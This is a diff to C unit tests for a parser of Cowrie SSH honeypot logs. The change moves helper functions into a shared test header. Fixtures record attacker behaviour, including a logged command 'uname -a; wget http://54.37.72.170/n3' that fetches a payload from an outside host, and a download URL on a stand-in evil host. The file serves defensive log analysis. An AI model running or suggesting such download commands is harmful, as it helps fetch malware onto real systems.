@@ -10,6 +10,7 @@
 
 #include "core/arena.h"
 #include "ingest/parser.h"
+#include "parsetest.h"
 #include "testutil.h"
 
 static ts_arena_t *arena;
@@ -17,12 +18,7 @@ static ts_arena_t *arena;
 /* Parses a copy of exactly n bytes so ASan catches reads past the line. */
 static int parse_n(const char *line, size_t n, ts_event_t *e, ts_parse_error_t *err)
 {
-    char *buf = malloc(n ? n : 1);
-    memcpy(buf, line, n);
-    err->detail[0] = '\0';
-    int rc = ts_cowrie_parse(buf, n, arena, e, err);
-    free(buf);
-    return rc;
+    return tt_parse_n(ts_cowrie_parse, arena, line, n, e, err);
 }
 
 static int parse(const char *line, ts_event_t *e, ts_parse_error_t *err)
@@ -30,23 +26,9 @@ static int parse(const char *line, ts_event_t *e, ts_parse_error_t *err)
     return parse_n(line, strlen(line), e, err);
 }
 
-static const char *extra(const ts_event_t *e, const char *key)
-{
-    for (uint32_t i = 0; i < e->n_extra; i++)
-        if (ts_str_eq_c(e->extra[i].key, key))
-            return e->extra[i].value_json.ptr;
-    return NULL;
-}
-
 static void expect_err(const char *line, int code, const char *detail_part)
 {
-    ts_event_t e;
-    ts_parse_error_t err;
-    int rc = parse(line, &e, &err);
-    if (rc != code)
-        fail_msg("rc %d (want %d) detail '%s' for: %s", rc, code, err.detail, line);
-    if (detail_part && strstr(err.detail, detail_part) == NULL)
-        fail_msg("detail '%s' lacks '%s' for: %s", err.detail, detail_part, line);
+    tt_expect_err(ts_cowrie_parse, arena, line, code, detail_part);
 }
 
 static void ip_is(const ts_ip_t *ip, const char *want)
@@ -194,11 +176,11 @@ static void test_login_failed(void **state)
     char t[48];
     ts_time_format(e.time_source, t, sizeof t);
     assert_string_equal(t, "2018-06-12T00:03:40.956305+00:00");
-    assert_string_equal(extra(&e, "cowrie.username"), "\"admin\"");
-    assert_string_equal(extra(&e, "cowrie.session"), "\"556bbc45a7ef\"");
-    assert_string_equal(extra(&e, "cowrie.sensor"), "\"920497a79896\"");
+    assert_string_equal(tt_extra(&e, "cowrie.username"), "\"admin\"");
+    assert_string_equal(tt_extra(&e, "cowrie.session"), "\"556bbc45a7ef\"");
+    assert_string_equal(tt_extra(&e, "cowrie.sensor"), "\"920497a79896\"");
     /* printf hunter2 | sha256sum */
-    assert_string_equal(extra(&e, "cowrie.password_sha256"),
+    assert_string_equal(tt_extra(&e, "cowrie.password_sha256"),
                         "\"f52fbd32b2b3b86ff88ef6c490628285f482af15ddcb29541f94bcf526a3f6c7\"");
     /* The cleartext is nowhere in the event. */
     for (uint32_t i = 0; i < e.n_extra; i++)
@@ -213,11 +195,11 @@ static void test_login_failed(void **state)
               &e, &err),
         TS_PARSE_EVENT);
     ip_is(&e.src.ip, "192.0.2.9"); /* unmapped */
-    assert_string_equal(extra(&e, "cowrie.username"), "\"\"");
+    assert_string_equal(tt_extra(&e, "cowrie.username"), "\"\"");
     /* FIPS 180-2 test vector "abc". */
-    assert_string_equal(extra(&e, "cowrie.password_sha256"),
+    assert_string_equal(tt_extra(&e, "cowrie.password_sha256"),
                         "\"ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad\"");
-    assert_null(extra(&e, "cowrie.session"));
+    assert_null(tt_extra(&e, "cowrie.session"));
 
     /* Two-block message: the 448-bit FIPS vector. */
     assert_int_equal(
@@ -231,7 +213,7 @@ static void test_login_failed(void **state)
     ip_is(&e.src.ip, "2001:db8::7");
     ip_is(&e.dst.ip, "198.51.100.2");
     assert_int_equal(e.dst.port, 2222);
-    assert_string_equal(extra(&e, "cowrie.password_sha256"),
+    assert_string_equal(tt_extra(&e, "cowrie.password_sha256"),
                         "\"248d6a61d20638b8e5c026930c3e6039a33ce45964ff2167f6ecedd419db06c1\"");
 
     /* No password at all (public key login): no hash. */
@@ -239,7 +221,7 @@ static void test_login_failed(void **state)
                                                        "\"r\", " TAIL,
                            &e, &err),
                      TS_PARSE_EVENT);
-    assert_null(extra(&e, "cowrie.password_sha256"));
+    assert_null(tt_extra(&e, "cowrie.password_sha256"));
 }
 
 static void test_login_success_and_command(void **state)
@@ -265,7 +247,7 @@ static void test_login_success_and_command(void **state)
                      TS_PARSE_EVENT);
     assert_true(ts_str_eq_c(e.identifier, "cowrie-command-input"));
     assert_string_equal(ts_type_name(e.type), "brute-force");
-    assert_string_equal(extra(&e, "cowrie.input"), "\"uname -a; wget http://54.37.72.170/n3\"");
+    assert_string_equal(tt_extra(&e, "cowrie.input"), "\"uname -a; wget http://54.37.72.170/n3\"");
     ip_is(&e.src.ip, "61.8.73.166");
     assert_true(ts_str_is_null(e.application)); /* no "system" */
 }
@@ -297,9 +279,9 @@ static void test_file_download(void **state)
     assert_true(ts_str_is_null(e.src.fqdn));
     /* The attacker is kept aside, not made a victim. */
     assert_int_equal(e.dst.ip.family, TS_AF_NONE);
-    assert_string_equal(extra(&e, "cowrie.src_ip"), "\"61.8.73.166\"");
-    assert_string_equal(extra(&e, "cowrie.shasum"), "\"3be5\"");
-    assert_string_equal(extra(&e, "cowrie.outfile"), "\"dl/3be5\"");
+    assert_string_equal(tt_extra(&e, "cowrie.src_ip"), "\"61.8.73.166\"");
+    assert_string_equal(tt_extra(&e, "cowrie.shasum"), "\"3be5\"");
+    assert_string_equal(tt_extra(&e, "cowrie.outfile"), "\"dl/3be5\"");
 
     download("\"http://user:pw@Evil.Example.COM:8080/x?y=http://1.2.3.4/\"", &e);
     assert_int_equal(e.src.ip.family, TS_AF_NONE);
@@ -340,7 +322,7 @@ static void test_file_upload(void **state)
     assert_string_equal(ts_type_name(e.type), "malware-distribution");
     assert_true(ts_str_eq_c(e.identifier, "cowrie-file-upload"));
     ip_is(&e.src.ip, "198.51.100.77");
-    assert_string_equal(extra(&e, "cowrie.filename"), "\"x.sh\"");
+    assert_string_equal(tt_extra(&e, "cowrie.filename"), "\"x.sh\"");
 }
 
 static void test_skipped(void **state)
@@ -438,7 +420,7 @@ static void test_corpus(void **state)
                     e.src.ip.family != TS_AF_NONE)
                     dl_with_ip++;
                 if (ts_str_eq_c(e.identifier, "cowrie-login-failed"))
-                    assert_non_null(extra(&e, "cowrie.username"));
+                    assert_non_null(tt_extra(&e, "cowrie.username"));
             }
             ts_arena_reset(arena);
         }
